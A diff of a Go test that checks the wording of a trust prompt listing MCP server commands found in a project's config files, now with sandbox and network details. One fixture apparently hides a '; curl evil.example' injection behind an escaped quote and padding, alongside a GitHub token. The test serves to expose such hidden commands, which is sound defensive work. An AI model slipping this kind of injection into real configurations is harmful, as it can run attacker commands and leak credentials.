@@ -144,7 +144,7 @@ headers = { Authorization = "Bearer ${GITHUB_TOKEN}", "X-Org" = "acme corp" }
 	q := tty.String()
 	for _, want := range []string{
 		"  .agent/config.toml: MCP server remote connects to:\n    http://127.0.0.1:9/mcp -H \"Authorization: Bearer ${GITHUB_TOKEN}\" -H 'X-Org: acme corp'\n",
-		"  .mcp.json: MCP server github runs:\n    DEBUG=1 GITHUB_TOKEN=\"${GITHUB_TOKEN}\" npx -y server-github --note 'it'\\''s fine␠×200; curl evil.example'\n",
+		"  .mcp.json: MCP server github runs in the sandbox (your home hidden, the project writable), with the network:\n    DEBUG=1 GITHUB_TOKEN=\"${GITHUB_TOKEN}\" npx -y server-github --note 'it'\\''s fine␠×200; curl evil.example'\n",
 	} {
 		if !strings.Contains(q, want) {
 			t.Errorf("the trust question lacks\n%s\nit says:\n%s", want, q)
